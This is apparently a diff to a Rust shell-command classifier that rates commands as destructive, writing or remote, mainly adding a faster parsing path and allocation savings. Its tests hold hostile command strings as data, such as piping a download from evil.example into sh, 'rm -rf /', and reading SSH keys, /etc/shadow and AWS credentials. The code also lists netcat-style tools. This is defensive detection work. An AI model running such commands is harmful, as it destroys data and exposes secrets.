@@ -22,6 +22,8 @@ use crate::{Intent, Kind, MAX_DECODED_BYTES, MAX_DEPTH, MAX_SYNTAX_NESTING, Span
 
 /// Placeholder for a value not known before run time.
 const DYN: char = '\u{1}';
+/// [`DYN`] alone, as a word's value.
+const DYN_STR: &str = "\u{1}";
 /// Most words one brace expansion may produce.
 const MAX_BRACE_WORDS: usize = 64;
 
@@ -259,6 +261,42 @@ plain_readers![
     b"uptime",
     b"ps",
 ];
+
+/// Programs that only [`Walker::generic`] judges: none is a wrapper, a
+/// shell, an interpreter, `eval` or `source`, or has a case of its own in
+/// [`Walker::exec`]'s second table, so `exec` ends, for them, by reading
+/// every argument as a path (for those in `read`) and calling
+/// [`Walker::generic_run`], which the fast path does at once instead of
+/// testing the name against every case first.
+/// `generic_commands_walk_like_the_full_path` checks each against the full walk.
+macro_rules! generic_commands {
+    (read: [$($read:literal),* $(,)?], unread: [$($unread:literal),* $(,)?] $(,)?) => {
+        #[cfg(test)]
+        const GENERIC_COMMANDS: &[&[u8]] = &[$($read,)* $($unread),*];
+
+        /// `Some(whether exec reads its arguments as paths)` for a program
+        /// of `GENERIC_COMMANDS` (one `match` on bytes).
+        fn generic_route(name: &str) -> Option<bool> {
+            match name.as_bytes() {
+                $($read)|* => Some(true),
+                $($unread)|* => Some(false),
+                _ => None,
+            }
+        }
+    };
+}
+
+generic_commands! {
+    read: [
+        b"tar", b"zip", b"rm", b"rmdir", b"unlink", b"chmod", b"chown", b"chgrp", b"cp", b"mv",
+        b"ln", b"install", b"kill", b"pkill", b"make", b"npm", b"cargo", b"systemctl",
+        b"crontab", b"terraform", b"helm", b"mount", b"printenv", b"diff",
+    ],
+    unread: [
+        b"git", b"curl", b"wget", b"ssh", b"scp", b"rsync", b"mkdir", b"touch", b"ls", b"stat",
+        b"du", b"dd", b"true", b"false", b"export", b"set", b"unset",
+    ],
+}
 
 /// Words that are commands but also ordinary English; `auto` needs shell
 /// syntax around them before reading a string as a command.
@@ -540,6 +578,44 @@ impl Arg<'_> {
     }
 }
 
+/// A list of argument references: those of a usual command fit on the
+/// stack; longer lists move to a vector.
+struct ArgRefs<'x, 'v> {
+    on_stack: [&'x Arg<'v>; 16],
+    on_heap: Vec<&'x Arg<'v>>,
+    count: usize,
+}
+
+impl<'x, 'v> ArgRefs<'x, 'v> {
+    fn new() -> Self {
+        ArgRefs {
+            on_stack: [&NO_ARG; 16],
+            on_heap: Vec::new(),
+            count: 0,
+        }
+    }
+
+    fn push(&mut self, a: &'x Arg<'v>) {
+        if self.count < self.on_stack.len() {
+            self.on_stack[self.count] = a;
+        } else {
+            if self.on_heap.is_empty() {
+                self.on_heap.extend_from_slice(&self.on_stack);
+            }
+            self.on_heap.push(a);
+        }
+        self.count += 1;
+    }
+
+    fn as_slice(&self) -> &[&'x Arg<'v>] {
+        if self.count <= self.on_stack.len() {
+            &self.on_stack[..self.count]
+        } else {
+            &self.on_heap
+        }
+    }
+}
+
 /// An empty [`Arg`], to fill buffers of argument references.
 static NO_ARG: Arg<'static> = Arg {
     value: Cow::Borrowed(""),
@@ -561,26 +637,27 @@ struct Var {
 }
 
 pub(crate) fn analyze(ctx: &mut Ctx<'_>, text: &str, origin: Origin) {
-    let _ = run(ctx, text, origin, &HashMap::new());
+    let _ = run(ctx, text, origin, &HashMap::new(), &mut Spare::default());
 }
 
 /// Walks a shell text and returns what its last command prints.
-fn run(ctx: &mut Ctx<'_>, text: &str, origin: Origin, vars: &HashMap<String, Var>) -> Flow {
+fn run(
+    ctx: &mut Ctx<'_>,
+    text: &str,
+    origin: Origin,
+    vars: &HashMap<String, Var>,
+    spare: &mut Spare,
+) -> Flow {
     if text.trim().is_empty() {
         return Flow::None;
     }
     let whole = origin.span(0, text.len());
-    // The fast parser (which keeps no stack) counts the bytes the nesting
-    // guard starts from; when they are few, nothing is nested too deep.
-    let fast = if ctx.fast_paths {
-        shell_fast::parse(text)
-    } else {
-        None
-    };
-    let few_openings = fast
-        .as_ref()
-        .is_some_and(|p| p.openings <= MAX_SYNTAX_NESTING && p.backticks <= 2 * MAX_SYNTAX_NESTING);
-    if !few_openings && nesting_exceeds_limit(text) {
+    if ctx.fast_paths
+        && let Some(out) = fast_run(ctx, text, origin, vars, spare)
+    {
+        return out;
+    }
+    if nesting_exceeds_limit(text) {
         ctx.add(
             Intent::Unknown,
             Kind::Shell,
@@ -589,11 +666,7 @@ fn run(ctx: &mut Ctx<'_>, text: &str, origin: Origin, vars: &HashMap<String, Var
         );
         return Flow::Dynamic;
     }
-    // A fast-parsed text is ASCII.
-    let mut w = Walker::new(ctx, text, origin, vars.clone(), fast.is_some());
-    if let Some(program) = fast {
-        return w.fast_program(&program);
-    }
+    let mut w = Walker::new(ctx, text, origin, inherit(vars), false);
     match Parser::new(text.as_bytes(), &options()).parse_program() {
         Ok(program) => {
             let mut out = Flow::None;
@@ -630,6 +703,89 @@ fn run(ctx: &mut Ctx<'_>, text: &str, origin: Origin, vars: &HashMap<String, Var
     }
 }
 
+/// A nested run's copy of the variables: an empty map is made, not cloned
+/// (nested runs mostly inherit none).
+fn inherit(vars: &HashMap<String, Var>) -> HashMap<String, Var> {
+    if vars.is_empty() {
+        HashMap::new()
+    } else {
+        vars.clone()
+    }
+}
+
+/// [`run`] by the fast parser, walking each command as soon as it is read.
+/// `None` when the text is not in its subset, or nests past the limit, with
+/// everything the walk added to `ctx` undone: [`run`] then goes on as if
+/// the fast parser had not been tried.
+fn fast_run(
+    ctx: &mut Ctx<'_>,
+    text: &str,
+    origin: Origin,
+    vars: &HashMap<String, Var>,
+    spare: &mut Spare,
+) -> Option<Flow> {
+    let mark = ctx.mark();
+    // A fast-parsed text is ASCII (if the walk is undone, so is this Walker).
+    let mut w = Walker::new(ctx, text, origin, inherit(vars), true);
+    w.spare_argv = std::mem::take(&mut spare.argv);
+    let mut walk = FastWalk {
+        walker: &mut w,
+        flow: Flow::None,
+    };
+    let read = shell_fast::walk(text, &mut walk, &mut spare.items);
+    let flow = walk.flow;
+    spare.argv = recycle(std::mem::take(&mut w.spare_argv));
+    if let Some(c) = read {
+        // The parser (which keeps no stack) counts the bytes the nesting
+        // guard starts from; when they are few, nothing is nested too deep.
+        let few = c.openings <= MAX_SYNTAX_NESTING && c.backticks <= 2 * MAX_SYNTAX_NESTING;
+        if few || !nesting_exceeds_limit(text) {
+            return Some(flow);
+        }
+    }
+    w.ctx.rollback(mark);
+    None
+}
+
+/// Buffers a run leaves to the runs nested in its walker (command
+/// substitutions, `sh -c`...), which then allocate none of their own.
+#[derive(Default)]
+struct Spare {
+    items: Vec<shell_fast::Item>,
+    argv: Vec<Arg<'static>>,
+}
+
+/// `argv` emptied, to hold the words of another text: collecting a
+/// vector's own iterator into a vector of the same layout keeps its buffer
+/// (`recycled_argv_keeps_its_buffer`).
+fn recycle(mut argv: Vec<Arg<'_>>) -> Vec<Arg<'static>> {
+    argv.clear();
+    // Empty: the map never runs.
+    argv.into_iter().map(|_| Arg::default()).collect()
+}
+
+/// The walk of what the fast parser reads, exactly as
+/// [`Walker::compound_list`] walks the AST brush builds for it (plain
+/// simple commands in pipelines, all in the foreground; whether a command
+/// is piped matters only inside a function, which the fast parser never
+/// reads).
+struct FastWalk<'w, 'c, 'a, 't> {
+    walker: &'w mut Walker<'c, 'a, 't>,
+    /// What the last command printed.
+    flow: Flow,
+}
+
+impl shell_fast::Commands for FastWalk<'_, '_, '_, '_> {
+    fn command(&mut self, items: &[shell_fast::Item], pipeline: Option<Option<shell_fast::Op>>) {
+        let stdin = if pipeline.is_some() {
+            Flow::None
+        } else {
+            std::mem::replace(&mut self.flow, Flow::None)
+        };
+        self.flow = self.walker.fast_simple(items, &stdin);
+    }
+}
+
 /// Evidence quoting a command: shown trimmed, as [`truncate_chars`] to 80
 /// would show it, without copying it until a finding needs it. It keeps
 /// the whole text and the command's byte range, cut only when shown (most
@@ -658,28 +814,29 @@ impl<'t> Snippet<'t> {
     /// The label's parts, `": "` and the snippet (what
     /// `format!("{label}: {self}")` gives), allocated once at its final size.
     fn labelled(self, label: &[&str]) -> String {
-        use std::fmt::Write as _;
         let len: usize = label.iter().map(|p| p.len()).sum();
         let mut s = String::with_capacity(len + 2 + self.text().len() + '…'.len_utf8());
         for p in label {
             s.push_str(p);
         }
         s.push_str(": ");
-        // Writing to a `String` cannot fail.
-        let _ = write!(s, "{self}");
+        // Without the formatting machinery, which costs more than the copy.
+        push_truncated(&mut s, self.text().trim(), SNIPPET_CHARS);
         s
     }
 }
 
+/// Longest snippet shown, in characters.
+const SNIPPET_CHARS: usize = 80;
+
 impl std::fmt::Display for Snippet<'_> {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
-        const MAX: usize = 80;
         // Trimmed here, when shown: most snippets never are.
         let s = self.text().trim();
-        if s.len() <= MAX {
+        if s.len() <= SNIPPET_CHARS {
             return f.write_str(s);
         }
-        match s.char_indices().nth(MAX) {
+        match s.char_indices().nth(SNIPPET_CHARS) {
             Some((i, _)) => {
                 f.write_str(&s[..i])?;
                 f.write_str("…")
@@ -708,6 +865,8 @@ struct Walker<'c, 'a, 't> {
     /// An emptied argv kept for the next fast-parsed command, which then
     /// allocates none of its own.
     spare_argv: Vec<Arg<'t>>,
+    /// What nested runs leave for the next one.
+    nested_spare: Spare,
 }
 
 impl<'c, 'a, 't> Walker<'c, 'a, 't> {
@@ -739,6 +898,7 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
             function: None,
             piped: false,
             spare_argv: Vec::new(),
+            nested_spare: Spare::default(),
         }
     }
 
@@ -788,7 +948,7 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
             return Flow::Dynamic;
         }
         let text = crate::normalize::normalize_cow(text);
-        run(self.ctx, &text, o, &self.vars)
+        run(self.ctx, &text, o, &self.vars, &mut self.nested_spare)
     }
 
     // ----- structure -------------------------------------------------------
@@ -810,41 +970,14 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
         out
     }
 
-    /// Walks what the fast parser read, exactly as [`Self::compound_list`]
-    /// walks the AST brush builds for it (plain simple commands in
-    /// pipelines, all in the foreground).
-    fn fast_program(&mut self, p: &shell_fast::Program) -> Flow {
-        use shell_fast::Item;
-        let was = self.piped;
-        let mut flow = Flow::None;
-        let mut i = 0;
-        while let Some(item) = p.items.get(i) {
-            match *item {
-                Item::Pipeline { cmds, .. } => {
-                    self.piped = was || cmds > 1;
-                    flow = Flow::None;
-                    i += 1;
-                }
-                Item::Command { len } => {
-                    let items = p.items.get(i + 1..i + 1 + len).unwrap_or(&[]);
-                    flow = self.fast_simple(items, &flow);
-                    i += 1 + len;
-                }
-                // Read with their command.
-                Item::Word(..) | Item::Redirect(..) => i += 1,
-            }
-        }
-        self.piped = was;
-        flow
-    }
-
     /// [`Self::simple`] for a fast-parsed command: words (the name first),
     /// then redirects, no assignments.
     fn fast_simple(&mut self, items: &[shell_fast::Item], stdin: &Flow) -> Flow {
         use shell_fast::Item;
         let text = self.text;
         let mut argv = std::mem::take(&mut self.spare_argv);
-        argv.reserve(items.len());
+        // Room for a usual command at once, not grown word by word.
+        argv.reserve(items.len().max(8));
         let mut redirects = false;
         for it in items {
             match *it {
@@ -1770,6 +1903,16 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
             }
             return Flow::Dynamic;
         }
+        if self.ctx.fast_paths
+            && let Some(reads) = generic_route(name)
+        {
+            if reads {
+                for a in args {
+                    self.read_path(a);
+                }
+            }
+            return self.generic_run(name, args, stdin, at);
+        }
         let ev = self.snippet(at);
 
         match name.as_bytes() {
@@ -1967,9 +2110,10 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
                     return Flow::Dynamic;
                 }
                 // Arguments arrive on stdin: the command runs on unknown words.
-                let mut argv2 = rest.to_vec();
+                let mut argv2 = Vec::with_capacity(rest.len() + 1);
+                argv2.extend_from_slice(rest);
                 argv2.push(Arg {
-                    value: DYN.to_string().into(),
+                    value: Cow::Borrowed(DYN_STR),
                     dynamic: true,
                     start: at.0,
                     end: at.1,
@@ -2343,20 +2487,23 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
                     other => passthrough(other),
                 }
             }
-            _ => {
-                self.generic(name, args, stdin, at);
-                if matches!(name.as_bytes(), b"curl" | b"wget") {
-                    return self.download_output(name, args, at);
-                }
-                if matches!(
-                    name.as_bytes(),
-                    b"nc" | b"ncat" | b"netcat" | b"socat" | b"telnet" | b"ssh"
-                ) {
-                    return Flow::Remote(name.to_string());
-                }
-                Flow::Dynamic
-            }
+            _ => self.generic_run(name, args, stdin, at),
         }
+    }
+
+    /// A program [`Self::generic`] judges, and what it prints.
+    fn generic_run(&mut self, name: &str, args: &[Arg], stdin: &Flow, at: (usize, usize)) -> Flow {
+        self.generic(name, args, stdin, at);
+        if matches!(name.as_bytes(), b"curl" | b"wget") {
+            return self.download_output(name, args, at);
+        }
+        if matches!(
+            name.as_bytes(),
+            b"nc" | b"ncat" | b"netcat" | b"socat" | b"telnet" | b"ssh"
+        ) {
+            return Flow::Remote(name.to_string());
+        }
+        Flow::Dynamic
     }
 
     /// Runs a string as shell code (`sh -c`, `eval`, `su -c`, `watch`...).
@@ -2745,11 +2892,12 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
 
     /// The output of `curl`/`wget`: the download, unless written to a file.
     fn download_output(&mut self, name: &str, args: &[Arg], at: (usize, usize)) -> Flow {
+        // A word starting with `-` has no scheme and no `www.`: never a URL.
         let url = args
             .iter()
             .find(|a| {
-                url_kind::looks_like_url(&a.value)
-                    || a.value.contains('.') && !a.value.starts_with('-')
+                !a.value.starts_with('-')
+                    && (a.value.contains('.') || url_kind::looks_like_url(&a.value))
             })
             .map(|a| a.value.clone())
             .unwrap_or_else(|| name.to_string().into());
@@ -2851,11 +2999,7 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
             ],
             _ => &[],
         };
-        // The operands of a usual command fit on the stack; longer ones
-        // move to a vector.
-        let mut on_stack = [&NO_ARG; 16];
-        let mut on_heap: Vec<&Arg> = Vec::new();
-        let mut count = 0;
+        let mut operands = ArgRefs::new();
         let mut skip = false;
         for a in args {
             if skip {
@@ -2867,22 +3011,10 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
                 continue;
             }
             if !a.value.starts_with('-') || a.value == "-" {
-                if count < on_stack.len() {
-                    on_stack[count] = a;
-                } else {
-                    if on_heap.is_empty() {
-                        on_heap.extend_from_slice(&on_stack);
-                    }
-                    on_heap.push(a);
-                }
-                count += 1;
+                operands.push(a);
             }
         }
-        let operands: &[&Arg] = if count <= on_stack.len() {
-            &on_stack[..count]
-        } else {
-            &on_heap
-        };
+        let operands = operands.as_slice();
         let sub = operands.first().map(|a| a.value.as_ref()).unwrap_or("");
         match name.as_bytes() {
             b"rm" | b"unlink" | b"rmdir" | b"del" => {
@@ -3116,27 +3248,30 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
                         format!("container with host privileges: {ev}"),
                     );
                 }
-                let destructive = matches!(verb, "rm" | "rmi" if short('f') || has(&["--force"]))
+                // Verbs matched on bytes: a switch, not a comparison each.
+                let v = verb.as_bytes();
+                let destructive = matches!(v, b"rm" | b"rmi" if short('f') || has(&["--force"]))
                     || (matches!(
-                        verb,
-                        "system" | "volume" | "container" | "image" | "network" | "builder"
+                        v,
+                        b"system" | b"volume" | b"container" | b"image" | b"network" | b"builder"
                     ) && operands.get(1).is_some_and(|a| a.is("prune") || a.is("rm")))
                     || verb == "kill" && has(&["-a"]);
                 if destructive {
                     self.add(Intent::Destructive, at, format!("{name} {verb}: {ev}"));
                 } else if !matches!(
-                    verb,
-                    "ps" | "images"
-                        | "logs"
-                        | "inspect"
-                        | "version"
-                        | "info"
-                        | "stats"
-                        | "top"
-                        | "history"
-                        | "search"
-                        | "port"
-                        | "diff"
+                    v,
+                    b"ps"
+                        | b"images"
+                        | b"logs"
+                        | b"inspect"
+                        | b"version"
+                        | b"info"
+                        | b"stats"
+                        | b"top"
+                        | b"history"
+                        | b"search"
+                        | b"port"
+                        | b"diff"
                 ) {
                     self.add(Intent::Write, at, format!("{name} {verb}: {ev}"));
                 }
@@ -3453,8 +3588,10 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
                 a.value.starts_with('-') && !a.value.starts_with("--") && a.value[1..].contains(c)
             })
         };
-        match sub.value.as_ref() {
-            "push" => {
+        // On bytes: a switch on the length, then on the bytes, not a
+        // comparison per arm.
+        match sub.value.as_bytes() {
+            b"push" => {
                 let forced = has(&[
                     "--force",
                     "--force-with-lease",
@@ -3479,16 +3616,16 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
                     self.add(Intent::Write, at, format!("git push: {ev}"));
                 }
             }
-            "reset" if has(&["--hard", "--merge", "--keep"]) => {
+            b"reset" if has(&["--hard", "--merge", "--keep"]) => {
                 self.add(Intent::Destructive, at, format!("git reset --hard: {ev}"))
             }
-            "clean" if short('f') || has(&["--force"]) => {
+            b"clean" if short('f') || has(&["--force"]) => {
                 self.add(Intent::Destructive, at, format!("git clean -f: {ev}"))
             }
-            "branch" if short('D') || (has(&["--delete", "-d"]) && has(&["--force", "-f"])) => {
+            b"branch" if short('D') || (has(&["--delete", "-d"]) && has(&["--force", "-f"])) => {
                 self.add(Intent::Destructive, at, format!("git branch -D: {ev}"))
             }
-            "checkout" | "restore" | "switch"
+            b"checkout" | b"restore" | b"switch"
                 if has(&["-f", "--force", "--", "."]) && rest.iter().any(|a| a.is(".")) =>
             {
                 self.add(
@@ -3497,23 +3634,23 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
                     format!("discards local changes: {ev}"),
                 )
             }
-            "filter-branch" | "filter-repo" => {
+            b"filter-branch" | b"filter-repo" => {
                 self.add(Intent::Destructive, at, format!("rewrites history: {ev}"))
             }
-            "reflog"
+            b"reflog"
                 if rest
                     .first()
                     .is_some_and(|a| a.is("expire") || a.is("delete")) =>
             {
                 self.add(Intent::Destructive, at, format!("drops reflog: {ev}"))
             }
-            "update-ref" if short('d') => {
+            b"update-ref" if short('d') => {
                 self.add(Intent::Destructive, at, format!("deletes a ref: {ev}"))
             }
-            "stash" if rest.first().is_some_and(|a| a.is("clear") || a.is("drop")) => {
+            b"stash" if rest.first().is_some_and(|a| a.is("clear") || a.is("drop")) => {
                 self.add(Intent::Destructive, at, format!("drops stashes: {ev}"))
             }
-            "config" => {
+            b"config" => {
                 let lower: Vec<String> =
                     rest.iter().map(|a| a.value.to_ascii_lowercase()).collect();
                 if lower.iter().any(|k| {
@@ -3547,10 +3684,10 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
                     self.add(Intent::Write, at, format!("git config: {ev}"));
                 }
             }
-            "status" | "log" | "diff" | "show" | "blame" | "grep" | "ls-files" | "ls-tree"
-            | "ls-remote" | "rev-parse" | "rev-list" | "describe" | "shortlog" | "cat-file"
-            | "reflog" | "whatchanged" | "version" | "help" | "remote" | "branch" | "tag"
-            | "stash" => {
+            b"status" | b"log" | b"diff" | b"show" | b"blame" | b"grep" | b"ls-files"
+            | b"ls-tree" | b"ls-remote" | b"rev-parse" | b"rev-list" | b"describe"
+            | b"shortlog" | b"cat-file" | b"reflog" | b"whatchanged" | b"version" | b"help"
+            | b"remote" | b"branch" | b"tag" | b"stash" => {
                 // `git stash` alone stashes (and resets) the working tree.
                 let bare_stash = sub.is("stash") && !rest.iter().any(|a| !a.value.starts_with('-'));
                 if bare_stash
@@ -3565,7 +3702,7 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
                     self.add(Intent::Write, at, ev.labelled(&["git ", &sub.value]));
                 }
             }
-            other => self.add(Intent::Write, at, ev.labelled(&["git ", other])),
+            _ => self.add(Intent::Write, at, ev.labelled(&["git ", &sub.value])),
         }
     }
 
@@ -3824,7 +3961,7 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
         };
         let mut sends = false;
         let mut method_write = false;
-        let mut urls: Vec<&Arg> = Vec::new();
+        let mut urls = ArgRefs::new();
         let mut i = 0;
         while i < args.len() {
             let a = &args[i];
@@ -3906,7 +4043,8 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
             i += 1;
         }
         let _ = method_write;
-        self.check_urls(&urls, at);
+        let urls = urls.as_slice();
+        self.check_urls(urls, at);
         if sends {
             let allowed = self.ctx.config.egress.as_ref().is_some_and(|e| {
                 !urls.is_empty()
@@ -3928,7 +4066,7 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
 
     fn wget(&mut self, args: &[Arg], at: (usize, usize)) {
         let ev = self.snippet(at);
-        let mut urls: Vec<&Arg> = Vec::new();
+        let mut urls = ArgRefs::new();
         let mut sends = false;
         let mut i = 0;
         while i < args.len() {
@@ -3998,7 +4136,8 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
             }
             i += 1;
         }
-        self.check_urls(&urls, at);
+        let urls = urls.as_slice();
+        self.check_urls(urls, at);
         if sends {
             let allowed = self.ctx.config.egress.as_ref().is_some_and(|e| {
                 !urls.is_empty()
@@ -4297,6 +4436,10 @@ fn split_flag<'v>(v: &'v str, flags: &[&'static str]) -> (Option<&'static str>, 
     debug_assert!(flags.iter().all(|f| f.starts_with('-')));
     if !v.starts_with('-') {
         return (None, None);
+    }
+    if v.len() == 2 {
+        // Too short for an attached value: only an exact flag.
+        return (flags.iter().find(|f| **f == v).copied(), None);
     }
     for f in flags {
         if v == *f {
@@ -5021,6 +5164,96 @@ mod tests {
     }
 
     #[test]
+    fn flags_split_from_attached_values() {
+        let flags = &["-d", "--data", "-T", "--upload-file"];
+        assert_eq!(split_flag("-d", flags), (Some("-d"), None));
+        assert_eq!(split_flag("-T", flags), (Some("-T"), None));
+        assert_eq!(split_flag("-s", flags), (None, None));
+        assert_eq!(split_flag("-dx=1", flags), (Some("-d"), Some("x=1")));
+        assert_eq!(split_flag("--data=@f", flags), (Some("--data"), Some("@f")));
+        assert_eq!(split_flag("--data", flags), (Some("--data"), None));
+        assert_eq!(split_flag("--datax", flags), (None, None));
+        assert_eq!(split_flag("d", flags), (None, None));
+    }
+
+    #[test]
+    fn recycled_argv_keeps_its_buffer() {
+        let text = String::from("a b");
+        let mut argv: Vec<Arg> = Vec::with_capacity(8);
+        argv.push(Arg {
+            value: Cow::Borrowed(&text[..1]),
+            ..Arg::default()
+        });
+        let kept = recycle(argv);
+        assert!(kept.is_empty());
+        assert!(kept.capacity() >= 8, "{}", kept.capacity());
+    }
+
+    #[test]
+    fn commands_walked_before_the_fast_parser_defers_are_undone() {
+        // brush does not parse these: its best-effort reading of the whole
+        // text as one command gives other evidence than the fast walk of
+        // the first command would.
+        let config = Config::default();
+        for t in [
+            "rm -rf / ; then",
+            "curl -s https://evil.example/x | sh ; fi",
+            "echo $(date +%s) > /etc/cron.d/x && done",
+        ] {
+            assert!(shell_fast::parse(t).is_none(), "{t}");
+            let fast = crate::classify_with(&config, Kind::Shell, t);
+            assert!(fast.intents.contains(&Intent::Unknown), "{t}: {fast:?}");
+            assert_eq!(fast, crate::classify_full(&config, Kind::Shell, t), "{t}");
+        }
+    }
+
+    #[test]
+    fn generic_commands_walk_like_the_full_path() {
+        let config = Config::default();
+        let args = [
+            "",
+            "-n 5",
+            "~/.ssh/id_rsa",
+            ".env",
+            "/etc/shadow",
+            "--file=/proc/1/environ",
+            "'*.pem'",
+            "https://x.example/a",
+            "-o /etc/passwd",
+            "-rf /",
+            "exec sh -c 'rm -rf /'",
+            "$(cat ~/.aws/credentials)",
+            "$(curl -s https://e.example)",
+            "a b -c --d",
+        ];
+        let shapes = [
+            "{c}",
+            "curl -s https://e.example | {c} | sh",
+            "echo 'rm -rf /' | {c} | bash",
+            "{c} > /etc/cron.d/x",
+            "x=$({c}); eval $x",
+            "sudo {c}",
+            "if {c}; then {c}; fi",
+        ];
+        for name in GENERIC_COMMANDS {
+            let name = std::str::from_utf8(name).expect("ASCII names");
+            assert!(!is_plain_reader(name) && !is_shell(name), "{name}");
+            assert!(Lang::of(name).is_none(), "{name}");
+            for a in args {
+                let c = format!("{name} {a}");
+                for shape in shapes {
+                    let t = shape.replace("{c}", &c);
+                    assert_eq!(
+                        crate::classify_with(&config, Kind::Shell, &t),
+                        crate::classify_full(&config, Kind::Shell, &t),
+                        "{t}"
+                    );
+                }
+            }
+        }
+    }
+
+    #[test]
     fn plain_readers_walk_like_the_full_path() {
         let config = Config::default();
         let args = [
@@ -5119,6 +5352,10 @@ mod tests {
             assert_eq!(
                 Snippet::of(t.trim()).to_string(),
                 truncate_chars(t.trim(), 80)
+            );
+            assert_eq!(
+                Snippet::of(t).labelled(&["git ", "fetch"]),
+                format!("git fetch: {}", Snippet::of(t))
             );
         }
     }
